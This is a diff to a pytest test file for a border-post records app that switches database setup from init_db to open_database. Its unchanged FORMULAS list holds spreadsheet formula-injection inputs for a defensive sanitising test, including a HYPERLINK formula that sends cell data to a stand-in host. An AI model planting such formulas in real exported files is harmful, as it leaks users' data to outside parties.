@@ -10,7 +10,8 @@ import pytest
 
 from borderdesk import i18n
 from borderdesk.services import records, session, site, spreadsheet
-from borderdesk.store.connection import close_db, init_db
+from borderdesk.app import open_database
+from borderdesk.store.connection import close_db
 from borderdesk.trust import accounts, audit
 
 FORMULAS = ["=1+1", '=HYPERLINK("http://x.example/?"&A1,"bấm")', "+84 912", "-1", "@SUM(A1)", "\tTab",
@@ -20,7 +21,7 @@ FORMULAS = ["=1+1", '=HYPERLINK("http://x.example/?"&A1,"bấm")', "+84 912", "-
 @pytest.fixture
 def post(tmp_path):
     i18n.set_language("en")
-    init_db(tmp_path / "pl.sqlite")
+    open_database(tmp_path / "pl.sqlite")
     session.open_session("officer1")
     site.init_site("PL", "Đồn Pha Long", "", "post", "Lào Cai")
     yield tmp_path
